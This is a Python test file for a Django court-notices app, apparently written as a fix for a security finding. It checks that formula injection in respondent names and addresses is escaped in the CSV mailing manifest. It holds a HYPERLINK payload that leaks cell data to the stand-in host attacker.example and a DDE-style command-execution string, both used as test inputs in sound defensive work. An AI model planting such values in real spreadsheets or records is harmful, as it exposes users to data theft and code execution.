"""Issue 13, finding 1: the mailing manifest never carries a live spreadsheet formula."""

import csv
import io

import pytest
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage

from cases.tests.factories import CaseFactory, RespondentFactory
from notices.models import Notice
from notices.services import mailing_batch_start
from notices.tests.test_mailing import _two_page_pdf

EVIL = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click here")'


@pytest.mark.django_db
def test_a_respondent_named_like_a_formula_is_plain_text_in_the_manifest(
    court, clerk, django_capture_on_commit_callbacks
):
    person = RespondentFactory(given_name=EVIL, family_name="Pérez", address_line1="@SUM(1+1)*cmd|' /C calc'!A0")
    case = CaseFactory(respondent=person, court=court)
    key = default_storage.save("notices/test/letter.pdf", ContentFile(_two_page_pdf("letter")))
    Notice.objects.create(
        respondent=person,
        case=case,
        court=court,
        kind=Notice.Kind.HEARING,
        state=Notice.State.RENDERED,
        idempotency_key="test:formula",
        pdf_key=key,
        pdf_pages=2,
        pdf_sha256="0" * 64,
    )
    with django_capture_on_commit_callbacks(execute=True):
        batch = mailing_batch_start(court=court, actor=clerk)
    batch.refresh_from_db()
    with default_storage.open(batch.manifest_key, "rb") as handle:
        rows = list(csv.DictReader(io.StringIO(handle.read().decode("utf-8"))))
    assert rows[0]["name"] == "'" + EVIL + " Pérez"
    assert rows[0]["address"].startswith("'@SUM(1+1)")
    formula_starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [cell for row in rows for cell in row.values() if cell.startswith(formula_starts)]
